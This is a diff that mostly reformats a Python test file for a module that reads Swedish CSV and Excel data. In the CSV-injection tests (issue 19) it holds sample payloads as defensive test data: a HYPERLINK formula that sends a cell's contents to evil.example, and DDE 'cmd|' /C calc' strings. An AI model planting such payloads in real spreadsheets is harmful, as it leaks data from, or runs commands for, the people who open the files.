@@ -25,6 +25,7 @@ def read_problems(path):
 
 # --------------------------------------------------------------------------- encodings
 
+
 def test_cp1252_swedish_letters_survive(tmp_path):
     path = tmp_path / "teams.csv"
     path.write_bytes("namn;ort\nÅsa Öberg;Nässjö\nÄlva;Värnamo\n".encode("cp1252"))
@@ -71,6 +72,7 @@ def test_mixed_utf8_and_cp1252(tmp_path):
 
 # --------------------------------------------------------------------------- empty files
 
+
 def test_empty_file(tmp_path):
     path = tmp_path / "changes.csv"
     path.write_bytes(b"")
@@ -94,6 +96,7 @@ def test_header_only_gives_empty_frame(tmp_path):
 
 
 # --------------------------------------------------------------------------- separators
+
 
 def test_semicolon_with_decimal_comma(tmp_path):
     path = tmp_path / "obs.csv"
@@ -169,6 +172,7 @@ def test_xlsx_saved_with_csv_name(tmp_path):
 
 # --------------------------------------------------------------------------- xlsx
 
+
 def write_xlsx(path, rows, second_sheet=None):
     import openpyxl
 
@@ -183,12 +187,16 @@ def write_xlsx(path, rows, second_sheet=None):
 
 
 def test_xlsx_first_sheet_dates_numbers_rows(tmp_path):
-    path = write_xlsx(tmp_path / "teams.xlsx", [
-        [" Team_ID", "Start", "Cohort", "Share", "Code"],
-        ["nassjo", dt.datetime(2019, 9, 1), 2019, 0.9, 682],
-        [None, None, None, None, None],  # blank row 3
-        ["attarp", dt.datetime(2019, 8, 19, 13, 30), 2019.0, 12.5, "0680"],
-    ], second_sheet=["not", "read"])
+    path = write_xlsx(
+        tmp_path / "teams.xlsx",
+        [
+            [" Team_ID", "Start", "Cohort", "Share", "Code"],
+            ["nassjo", dt.datetime(2019, 9, 1), 2019, 0.9, 682],
+            [None, None, None, None, None],  # blank row 3
+            ["attarp", dt.datetime(2019, 8, 19, 13, 30), 2019.0, 12.5, "0680"],
+        ],
+        second_sheet=["not", "read"],
+    )
     frame = io.read_table(path)
     assert list(frame.columns) == ["team_id", "start", "cohort", "share", "code", "_row"]
     assert frame["_row"].tolist() == [2, 4]
@@ -219,21 +227,25 @@ def test_empty_xlsx_sheet(tmp_path):
 
 # --------------------------------------------------------------------------- numbers
 
-@pytest.mark.parametrize(("text", "expected"), [
-    ("12,5", 12.5),
-    ("12.5", 12.5),
-    ("1 234,5", 1234.5),
-    ("1\u00a0234,5", 1234.5),  # no-break space, as Excel writes Swedish thousands
-    ("1\u202f234", 1234.0),  # narrow no-break space
-    ("1.234,5", 1234.5),
-    ("1,234.5", 1234.5),
-    ("1.234.567", 1234567.0),
-    ("\u22123,5", -3.5),  # Unicode minus sign
-    ("-0,9", -0.9),
-    ("+2", 2.0),
-    ("1e3", 1000.0),
-    (7, 7.0),
-])
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("12,5", 12.5),
+        ("12.5", 12.5),
+        ("1 234,5", 1234.5),
+        ("1\u00a0234,5", 1234.5),  # no-break space, as Excel writes Swedish thousands
+        ("1\u202f234", 1234.0),  # narrow no-break space
+        ("1.234,5", 1234.5),
+        ("1,234.5", 1234.5),
+        ("1.234.567", 1234567.0),
+        ("\u22123,5", -3.5),  # Unicode minus sign
+        ("-0,9", -0.9),
+        ("+2", 2.0),
+        ("1e3", 1000.0),
+        (7, 7.0),
+    ],
+)
 def test_parse_number(text, expected):
     assert io.parse_number(text) == expected
 
@@ -256,6 +268,7 @@ def test_parse_numbers_marks_bad_cells():
 
 
 # --------------------------------------------------------------------------- files
+
 
 def test_find_table(tmp_path):
     assert io.find_table(tmp_path, "teams") is None
@@ -320,33 +333,52 @@ def test_atomic_dir_replaces_whole_folder_or_nothing(tmp_path):
 
 
 def test_problem_text_names_file_row_column():
-    problem = io.Problem("observations.csv", "the denominator is 0", row=14,
-                         column="denominator", hint="delete the row")
-    assert str(problem) == ("observations.csv row 14, column 'denominator': the denominator is 0"
-                            " (delete the row)")
-    assert io.sort_problems([io.Problem("b", "x", 2), io.Problem("a", "y", 9),
-                             io.Problem("a", "z")])[0].message == "z"
+    problem = io.Problem(
+        "observations.csv",
+        "the denominator is 0",
+        row=14,
+        column="denominator",
+        hint="delete the row",
+    )
+    assert str(problem) == (
+        "observations.csv row 14, column 'denominator': the denominator is 0 (delete the row)"
+    )
+    assert (
+        io.sort_problems([io.Problem("b", "x", 2), io.Problem("a", "y", 9), io.Problem("a", "z")])[
+            0
+        ].message
+        == "z"
+    )
 
 
 # --------------------------------------------------------------------------- properties
 
+
 @settings(max_examples=60, deadline=None)
-@given(st.decimals(min_value=-10**9, max_value=10**9, places=2, allow_nan=False,
-                   allow_infinity=False))
+@given(
+    st.decimals(
+        min_value=-(10**9), max_value=10**9, places=2, allow_nan=False, allow_infinity=False
+    )
+)
 def test_parse_number_reads_swedish_formatting(number):
     # Swedish style as Excel shows it: no-break space between thousands, decimal comma
     text = f"{number:,.2f}".replace(",", "\u00a0").replace(".", ",")
     assert io.parse_number(text) == pytest.approx(float(number), abs=1e-9)
 
 
-CELL = st.text(alphabet="abcåäöÅÄÖé 0123456789;,\"\n", min_size=1, max_size=12).map(
-    str.strip).filter(bool)
+CELL = (
+    st.text(alphabet='abcåäöÅÄÖé 0123456789;,"\n', min_size=1, max_size=12)
+    .map(str.strip)
+    .filter(bool)
+)
 
 
 @settings(max_examples=40, deadline=None)
-@given(rows=st.lists(st.tuples(CELL, CELL), min_size=1, max_size=6),
-       encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]),
-       sep=st.sampled_from([";", ","]))
+@given(
+    rows=st.lists(st.tuples(CELL, CELL), min_size=1, max_size=6),
+    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]),
+    sep=st.sampled_from([";", ","]),
+)
 def test_read_table_round_trips_what_csv_writes(tmp_path_factory, rows, encoding, sep):
     import csv as csv_module
     import io as std_io
@@ -364,16 +396,27 @@ def test_read_table_round_trips_what_csv_writes(tmp_path_factory, rows, encoding
 
 # ------------------------------------------------------------------ CSV for Excel (issue 19)
 
-@pytest.mark.parametrize(("cell", "written"), [
-    ('=HYPERLINK("http://evil.example/?x="&A1;"Klicka")', '\'=HYPERLINK("http://evil.example/?x="&A1;"Klicka")'),
-    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
-    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
-    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("-3", "-3"), ("-3,5", "-3,5"), ("+46 36 10 10 00", "'+46 36 10 10 00"), ("1 234,5", "1 234,5"),
-    ("sjukdomsutbrott vecka 7", "sjukdomsutbrott vecka 7"), ("", ""),
-])
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
+            '\'=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
+        ),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-3", "-3"),
+        ("-3,5", "-3,5"),
+        ("+46 36 10 10 00", "'+46 36 10 10 00"),
+        ("1 234,5", "1 234,5"),
+        ("sjukdomsutbrott vecka 7", "sjukdomsutbrott vecka 7"),
+        ("", ""),
+    ],
+)
 def test_a_cell_that_would_start_a_formula_is_written_as_text(cell, written):
     """OWASP's rule for CSV injection: a leading ' makes Excel show the cell as text."""
     assert io.neutralise_formula(cell) == written
@@ -381,8 +424,13 @@ def test_a_cell_that_would_start_a_formula_is_written_as_text(cell, written):
 
 
 def test_excel_safe_leaves_numbers_and_dates_alone():
-    frame = pd.DataFrame({"note": ["=1+1", "bra"], "value": [-3.0, 2.0],
-                          "period": pd.to_datetime(["2024-01-01", "2024-01-08"])})
+    frame = pd.DataFrame(
+        {
+            "note": ["=1+1", "bra"],
+            "value": [-3.0, 2.0],
+            "period": pd.to_datetime(["2024-01-01", "2024-01-08"]),
+        }
+    )
     safe = io.excel_safe(frame)
     assert list(safe["note"]) == ["'=1+1", "bra"]
     pd.testing.assert_series_equal(safe["value"], frame["value"])
@@ -403,10 +451,13 @@ def test_mixed_encodings_name_the_excel_row_of_both_parts(tmp_path):
 
 # ------------------------------------------------------------------ Excel quirks (issue 19)
 
+
 def test_a_formula_without_its_saved_result_is_named_not_called_empty(tmp_path):
     """openpyxl, like many export tools, writes formulas without their result: read as values
     such a cell is empty. The problem says what it is and what to do."""
-    path = write_xlsx(tmp_path / "observations.xlsx", [["team_id", "value"], ["a", "=1+1"], ["b", 3]])
+    path = write_xlsx(
+        tmp_path / "observations.xlsx", [["team_id", "value"], ["a", "=1+1"], ["b", 3]]
+    )
     [problem] = read_problems(path)
     assert (problem.row, problem.column) == (2, "value")
     assert "formula =1+1 but not its result" in problem.message and "save it" in problem.hint
@@ -415,8 +466,9 @@ def test_a_formula_without_its_saved_result_is_named_not_called_empty(tmp_path):
 def test_merged_cells_in_the_data_are_named(tmp_path):
     import openpyxl
 
-    path = write_xlsx(tmp_path / "observations.xlsx",
-                      [["team_id", "value"], ["nassjo", 1], [None, 2], [None, 3]])
+    path = write_xlsx(
+        tmp_path / "observations.xlsx", [["team_id", "value"], ["nassjo", 1], [None, 2], [None, 3]]
+    )
     book = openpyxl.load_workbook(path)
     book.active.merge_cells("A2:A4")
     book.save(path)
@@ -442,14 +494,26 @@ def test_data_on_the_second_sheet_is_pointed_at(tmp_path):
 
     empty_first = write_xlsx(tmp_path / "teams.xlsx", [], second_sheet=["team_id", "team_name"])
     [problem] = read_problems(empty_first)
-    assert "first sheet 'Sheet' is empty" in problem.message and "on the sheet 'other'" in problem.message
+    assert (
+        "first sheet 'Sheet' is empty" in problem.message
+        and "on the sheet 'other'" in problem.message
+    )
     # the first sheet holds something else: the missing column is found on the other sheet
-    path = write_xlsx(tmp_path / "measures.xlsx", [["anteckning"], ["x"]],
-                      second_sheet=["measure_id", "team_id", "measure_name"])
+    path = write_xlsx(
+        tmp_path / "measures.xlsx",
+        [["anteckning"], ["x"]],
+        second_sheet=["measure_id", "team_id", "measure_name"],
+    )
     _, problems = schemas.check_columns("measures", io.read_table(path), "measures.xlsx")
     missing = {p.column: p for p in problems}
-    assert "'measure_id' is on the sheet 'other': drag that sheet to the first place" in missing["measure_id"].hint
-    assert "only the first sheet ('Sheet') is read (the file also has 'other')" in missing["chart"].hint
+    assert (
+        "'measure_id' is on the sheet 'other': drag that sheet to the first place"
+        in missing["measure_id"].hint
+    )
+    assert (
+        "only the first sheet ('Sheet') is read (the file also has 'other')"
+        in missing["chart"].hint
+    )
 
 
 def test_code_hash_changes_with_any_source_file_and_ignores_caches(tmp_path):
@@ -464,7 +528,9 @@ def test_code_hash_changes_with_any_source_file_and_ignores_caches(tmp_path):
     (tmp_path / "pkg" / "notes.txt").write_text("not code")
     assert code_hash(tmp_path / "pkg") == before
     assert set(code_files(tmp_path / "pkg")) == {"a.py", "sub/b.yml"}
-    (tmp_path / "pkg" / "sub" / "b.yml").write_text("k: w\n")  # any module, not a list named by hand
+    (tmp_path / "pkg" / "sub" / "b.yml").write_text(
+        "k: w\n"
+    )  # any module, not a list named by hand
     assert code_hash(tmp_path / "pkg") != before
 
 
@@ -473,9 +539,15 @@ def test_write_files_atomic_writes_all_or_nothing(tmp_path):
 
     (tmp_path / "a.csv").write_bytes(b"old")
     with pytest.raises(TypeError):
-        write_files_atomic(tmp_path, {"a.csv": b"new", "sub/b.csv": None})  # the second cannot be written
+        write_files_atomic(
+            tmp_path, {"a.csv": b"new", "sub/b.csv": None}
+        )  # the second cannot be written
     assert (tmp_path / "a.csv").read_bytes() == b"old" and not (tmp_path / "sub" / "b.csv").exists()
-    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == ["a.csv"]  # no temporary left
+    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == [
+        "a.csv"
+    ]  # no temporary left
     written = write_files_atomic(tmp_path, {"a.csv": b"new", "sub/b.csv": b"b"}, fsync=True)
     assert written == [tmp_path / "a.csv", tmp_path / "sub" / "b.csv"]
-    assert (tmp_path / "a.csv").read_bytes() == b"new" and (tmp_path / "sub" / "b.csv").read_bytes() == b"b"
+    assert (tmp_path / "a.csv").read_bytes() == b"new" and (
+        tmp_path / "sub" / "b.csv"
+    ).read_bytes() == b"b"
